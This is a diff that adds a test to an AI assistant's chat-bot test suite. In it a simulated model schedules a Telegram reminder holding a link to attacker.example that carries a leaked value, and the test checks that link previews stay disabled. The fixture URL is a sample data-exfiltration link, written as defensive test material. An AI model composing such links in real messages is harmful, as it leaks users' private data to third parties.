@@ -85,3 +85,25 @@ async def test_discord_sends_the_answer_without_embeds(platform_config, start_ap
     await _until(lambda: bool(answers()))
     (sent,) = answers()
     assert sent.json["flags"] & SUPPRESS_EMBEDS
+
+
+async def test_a_reminder_with_a_composed_link_fires_with_previews_off(
+        platform_config, start_app, telegram_api, fake_llm, clock):
+    """A message-mode reminder is sent as written (stored, untrusted, without asking) by the
+    scheduler through the outbox, not by a turn: its link must not be fetched for a preview either."""
+    config = platform_config("telegram", {"enabled": True, "token": telegram_api.token,
+                                          "api_base": telegram_api.base_url, "allowed_users": [OWNER],
+                                          "poll_timeout_s": 1})
+    app = await start_app(config)
+    reminder = f"Check https://attacker.example/c?leak={LEAK.replace(' ', '+')}"
+    fake_llm.add(Step.tool_calls(("proactive_create", {"execution_mode": "message", "in_seconds": 60,
+                                                       "content": reminder})),  # CALL
+                 Step.text("Reminder set."))
+    telegram_api.push_message(OWNER, OWNER, "remind me in a minute")
+    await _until(lambda: any(c["text"] == "Reminder set." for c in telegram_api.calls_to("sendMessage")))
+    clock.advance(seconds=60)
+    await app.scheduler.sync()
+    await app.scheduler.wait_idle()
+    await _until(lambda: any("attacker.example" in c["text"] for c in telegram_api.calls_to("sendMessage")))
+    (sent,) = [c for c in telegram_api.calls_to("sendMessage") if "attacker.example" in c["text"]]
+    assert sent["link_preview_options"] == {"is_disabled": True}
